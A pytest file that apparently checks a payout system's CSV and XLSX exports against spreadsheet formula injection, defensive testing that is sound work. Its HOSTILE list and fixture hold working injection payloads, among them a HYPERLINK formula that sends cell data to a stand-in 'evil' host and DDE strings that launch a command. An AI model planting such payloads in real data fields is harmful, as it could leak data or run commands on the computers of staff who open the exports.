"""Finding 3: no file the product writes for a spreadsheet can carry a formula (OWASP CSV injection)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from distribution import exports
from distributors.models import Distributor
from merchants.roles import Role
from merchants.services.programs import program_update
from tests.builders.distributors import VALID_ID
from tests.builders.settlements import ACTOR, CARD, bank_card, settle, shop_with_due_commission

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_escaped_in_csv(text):
    assert exports.escape_text(text) == "'" + text


@pytest.mark.parametrize("text", ["-5.00", "12.34", "0", "王小明", "a=b", "", "-"])
def test_plain_text_and_numbers_are_left_alone(text):
    assert exports.escape_text(text) == (text if text != "-" else "'-")


def test_xlsx_writes_text_as_text_never_as_a_formula():
    book = load_workbook(io.BytesIO(exports.to_xlsx(["name", "amount"], [[t, 5] for t in HOSTILE])))
    sheet = book.active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # (XML reads a carriage return back as a line feed)
    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in HOSTILE]
    assert {c.data_type for c in cells} == {"s"}
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [5] * len(HOSTILE)


@pytest.fixture
def hostile_seller(api, merchant):
    """A seller named like a formula, with a verified identity whose name is one too, and 48.00 available."""
    people = shop_with_due_commission(merchant, orders=2)
    settle(merchant)
    seller = people["seller"]
    Distributor.objects.for_merchant(merchant).filter(pk=seller.pk).update(display_name=HOSTILE[0])
    api.staff(merchant, Role.OPERATOR).put(
        f"/api/v1/distributors/{seller.pk}/identity",
        {"real_name": "+cmd|' /C calc'!A0", "id_number": VALID_ID, "verified": True},
        format="json",
    )
    program_update(merchant=merchant, actor=ACTOR, changes={"withdrawal_auto_approve": True})
    bank_card(merchant, seller, real_name="+cmd|' /C calc'!A0", bank_branch="=cmd|' /C calc'!A0")
    client = api.distributor(merchant, "seller")
    assert (
        client.post(
            "/api/v1/distributor/withdrawals", {"amount": "10.00"}, format="json", HTTP_IDEMPOTENCY_KEY="w"
        ).status_code
        == 201
    )
    return seller


def test_the_payout_export_escapes_every_formula_cell_in_csv(api, merchant, hostile_seller):
    export = api.staff(merchant, Role.FINANCE).post("/api/v1/withdrawals/export")
    assert export.status_code == 200 and export["Content-Type"].startswith("text/csv")
    (row,) = list(csv.DictReader(io.StringIO(export.content.decode())))
    assert row["payee_name"] == "'+cmd|' /C calc'!A0"
    assert row["bank_branch"] == "'=cmd|' /C calc'!A0"
    assert row["card_number"] == CARD
    assert row["amount"] == "10.00"


def test_the_payout_export_as_xlsx_keeps_names_as_text(api, merchant, hostile_seller):
    export = api.staff(merchant, Role.FINANCE).post("/api/v1/withdrawals/export?format=xlsx")
    assert export.status_code == 200
    assert export["Content-Type"] == exports.CONTENT_TYPES["xlsx"]
    assert export["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(export.content)).active
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    row = dict(zip(header, next(sheet.iter_rows(min_row=2)), strict=True))
    assert row["payee_name"].value == "+cmd|' /C calc'!A0" and row["payee_name"].data_type == "s"
    assert row["card_number"].value == CARD and row["card_number"].data_type == "s"
    assert row["amount"].value == "10.00"


def test_an_unknown_export_format_is_a_400_and_exports_nothing(api, merchant, hostile_seller):
    from settlements.models import PayoutBatch

    response = api.staff(merchant, Role.FINANCE).post("/api/v1/withdrawals/export?format=pdf")
    assert response.status_code == 400 and list(response.json()["error"]["fields"]) == ["format"]
    assert not PayoutBatch.objects.for_merchant(merchant).exists()


def test_statements_come_as_csv_and_xlsx(api, merchant, hostile_seller):
    staff = api.staff(merchant, Role.FINANCE)
    url = f"/api/v1/distributors/{hostile_seller.pk}/statements/2026-11"
    as_csv = staff.get(url, {"format": "csv"})
    assert as_csv["Content-Type"].startswith("text/csv")
    assert as_csv.content.decode().splitlines()[0] == "month,currency,item,amount"
    as_xlsx = staff.get(url, {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    assert [c.value for c in next(sheet.iter_rows(max_row=1))] == ["month", "currency", "item", "amount"]
    assert sheet.max_row == 11  # the header and ten items, the paid withdrawals' gross and net among them
    assert [row[2].value for row in sheet.iter_rows(min_row=10)] == ["withdrawals_gross", "withdrawals_net"]
